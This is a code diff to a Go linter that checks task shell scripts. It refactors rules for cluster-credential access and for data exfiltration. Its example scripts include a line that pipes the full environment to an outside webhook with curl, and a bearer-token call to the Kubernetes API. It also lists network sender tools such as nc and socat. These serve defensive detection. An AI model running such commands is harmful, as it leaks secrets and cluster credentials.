@@ -5,6 +5,7 @@ import (
 
 	"mvdan.cc/sh/v3/syntax"
 	"taskgate.dev/taskgate/pkg/check"
+	"taskgate.dev/taskgate/pkg/rules/script"
 )
 
 // credentialPaths are files holding the pod's credentials: the service
@@ -43,7 +44,8 @@ curl -sS -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api
 	Fixed: example("whoami", `#!/bin/sh
 echo "this Task needs no cluster access"
 `),
-	Run: func(pass *check.Pass) []check.Finding { return each(pass.Submission, clusterCredentials) },
+	Requires: []*check.Input{script.Parsed},
+	Run:      func(pass *check.Pass) []check.Finding { return each(pass, clusterCredentials) },
 }
 
 func clusterCredentials(p parsed) []check.Finding {
@@ -77,7 +79,8 @@ env | curl -sS -X POST --data-binary @- https://hooks.example.com/build
 	Fixed: example("notify", `#!/bin/sh
 curl -sS -X POST -d "status=done" https://hooks.example.com/build
 `),
-	Run: func(pass *check.Pass) []check.Finding { return each(pass.Submission, exfiltration) },
+	Requires: []*check.Input{script.Parsed},
+	Run:      func(pass *check.Pass) []check.Finding { return each(pass, exfiltration) },
 }
 
 var senders = map[string]bool{"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true}
